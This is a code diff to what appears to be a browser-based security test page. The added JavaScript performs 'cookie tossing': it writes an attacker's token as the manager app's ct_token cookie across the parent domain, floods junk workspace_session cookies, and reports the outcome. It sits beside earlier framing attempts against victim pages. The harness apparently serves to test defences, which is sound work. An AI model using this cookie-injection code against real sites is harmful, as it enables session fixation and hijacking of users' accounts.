@@ -54,6 +54,15 @@ PAGE = """<!doctype html>
   }));
   await attempt('frame_victim', () => framed(t.victim + 'tree'));
   await attempt('frame_app', () => framed(t.manager + 'app/'));
+  // Cookies for the whole site ("tossing"): the attacker's token as the manager's cookie,
+  // junk as workspace sessions.
+  if (t.site) {
+    document.cookie = 'ct_token=' + t.toss + '; Domain=' + t.site + '; Path=/';
+    document.cookie = '__Host-ct_token=' + t.toss + '; Domain=' + t.site + '; Path=/; Secure';
+    for (let i = 0; i < 6; i++)
+      document.cookie = 'workspace_session=junk' + i + '; Domain=' + t.site + '; Path=/';
+    results.tossed = document.cookie;
+  }
   await fetch('/__report', {method: 'POST', body: JSON.stringify(results)});
   document.title = 'attack finished';
 })();
